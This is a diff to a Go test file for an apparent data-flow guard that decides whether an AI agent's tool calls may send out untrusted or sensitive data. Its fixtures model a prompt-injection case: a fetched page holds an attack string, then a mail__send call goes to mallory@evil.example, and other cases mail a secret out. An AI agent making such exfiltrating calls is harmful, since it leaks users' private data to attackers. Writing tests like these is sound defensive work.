@@ -2,6 +2,7 @@ package flow_test
 
 import (
 	"encoding/json"
+	"maps"
 	"slices"
 	"strings"
 	"sync"
@@ -34,8 +35,13 @@ func page(text string) step {
 	return step{name: "web__fetch", claims: reads, trust: tool.Web, result: text}
 }
 
+// private is the result of a tool that the operator labels so: see labelled.
 func private(text string) step {
 	return step{name: "crm__customers", claims: reads, trust: tool.Own, result: text}
+}
+
+func internal(text string) step {
+	return step{name: "notes__read", claims: reads, trust: tool.Own, result: text}
 }
 
 func sensitive(text string) step {
@@ -44,6 +50,15 @@ func sensitive(text string) step {
 
 func mail(args, want string) step {
 	return step{name: "mail__send", args: args, claims: acts, trust: tool.MCP, sens: tool.Public, want: want}
+}
+
+func labelled(f flow.Rules) flow.Rules {
+	f.Labels = maps.Clone(f.Labels)
+	if f.Labels == nil {
+		f.Labels = make(map[string]flow.Label)
+	}
+	f.Labels["crm__*"] = flow.Label{Is: []flow.Capability{flow.Sensitive}}
+	return f
 }
 
 func request(t *testing.T, s step, id, prompt string) *tool.Request {
@@ -80,7 +95,8 @@ func TestFlow(t *testing.T) {
 		flow         flow.Rules
 		steps        []step
 	}{
-		{"G6 nothing is asked where no stranger wrote", "", flow.Rules{}, []step{private(secret), mail(`{"to":"a@b.example","body":"`+secret+`"}`, "")}},
+		{"G6 nothing is asked where no stranger wrote", "", flow.Rules{}, []step{internal(secret), mail(`{"to":"a@b.example","body":"`+secret+`"}`, "")}},
+		{"G6 (b) internal alone is not private", "", flow.Rules{}, []step{page(attack), internal(secret), mail(`{"to":"a@b.example","body":"other words"}`, "")}},
 		{"G6 (a) untrusted content leaves", "", flow.Rules{}, []step{page(attack), mail(`{"to":"mallory@evil.example","body":"hi"}`, "a")}},
 		{"G6 (a) sensitive content leaves", "", flow.Rules{}, []step{sensitive(secret), mail(`{"to":"a@b.example","body":"`+secret+`"}`, "a")}},
 		{"G6 (a) not for a local tool", "", flow.Rules{}, []step{page(attack), {name: "notes__write", args: `{"text":"` + attack + `"}`, claims: tool.Claims{Local: true, Reversible: true}}}},
@@ -158,6 +174,7 @@ func TestFlow(t *testing.T) {
 	} {
 		t.Run(tt.name, func(t *testing.T) {
 			t.Parallel()
+			tt.flow = labelled(tt.flow)
 			if err := tt.flow.Check(); err != nil {
 				t.Fatal(err)
 			}
@@ -194,10 +211,11 @@ func TestFlowShows(t *testing.T) {
 			t.Errorf("copied: got %+v, want %+v", v.Copied, want)
 		}
 		d := v.Decision()
-		for _, part := range []string{"mallory@evil.example", "to[0] came from web__fetch", "call-1", "exact"} {
-			if !strings.Contains(d.Reason, part) {
-				t.Errorf("reason: got %q, want it to say %q", d.Reason, part)
-			}
+		if !strings.Contains(d.Reason, "mallory@evil.example") {
+			t.Errorf("reason: got %q, want it to say where it goes", d.Reason)
+		}
+		if want := "to[0] came from web__fetch (untrusted, call call-1, exact)"; !slices.Contains(v.From(), want) {
+			t.Errorf("from: got %q, want %q", v.From(), want)
 		}
 		if d.Verdict != tool.Ask || d.Rule != "data flow (a)" {
 			t.Errorf("got %s by %q, want ask by data flow (a)", d.Verdict, d.Rule)
@@ -232,15 +250,21 @@ func TestOnly(t *testing.T) {
 		send := step{name: "mail__send", claims: acts, trust: tool.Own}
 		both := step{name: "http__post", claims: acts, trust: tool.MCP}
 		only := func(l *flow.Ledger, s step) error {
-			return l.Only(request(t, s, "id", ""), flow.Untrusted, flow.External)
+			r := request(t, s, "id", "")
+			said, err := l.Judge(r, true).Decision(), l.Only(r)
+			if (said.Verdict == tool.Deny) != (err != nil) {
+				t.Errorf("%s: the verdict is %s, and before it runs %v", s.name, said.Verdict, err)
+			}
+			return err
 		}
-		first, second := &flow.Ledger{}, &flow.Ledger{}
+		rules := &flow.Rules{OnlyOne: []flow.Capability{flow.Untrusted, flow.External}}
+		first, second := &flow.Ledger{Rules: rules}, &flow.Ledger{Rules: rules}
 		for i, err := range []error{only(first, fetch), only(first, private("x")), only(first, fetch), only(second, send), only(second, send)} {
 			if err != nil {
 				t.Errorf("call %d: %v", i+1, err)
 			}
 		}
-		for i, err := range []error{only(first, send), only(second, fetch), only(&flow.Ledger{}, both)} {
+		for i, err := range []error{only(first, send), only(second, fetch), only(&flow.Ledger{Rules: rules}, both)} {
 			if err == nil {
 				t.Errorf("call %d is let through, want not both", i+1)
 			}
@@ -278,6 +302,9 @@ func TestFlowCheck(t *testing.T) {
 		{flow.Rules{Mode: "on"}, `got "on"`},
 		{flow.Rules{Labels: map[string]flow.Label{"x": {Is: []flow.Capability{"big"}}}}, `got "big"`},
 		{flow.Rules{Labels: map[string]flow.Label{"x": {Is: []flow.Capability{flow.External}, Not: []flow.Capability{flow.External}}}}, "external and not external"},
+		{flow.Rules{OnlyOne: []flow.Capability{flow.External}}, "two or more"},
+		{flow.Rules{OnlyOne: []flow.Capability{flow.External, flow.Untrusted}}, ""},
+		{flow.Rules{OnlyOne: []flow.Capability{flow.External, "big"}}, "two or more"},
 		{flow.Rules{Trusted: []flow.Trusted{{From: "*", To: "*"}}}, "trusted flow 1"},
 	} {
 		err := tt.flow.Check()
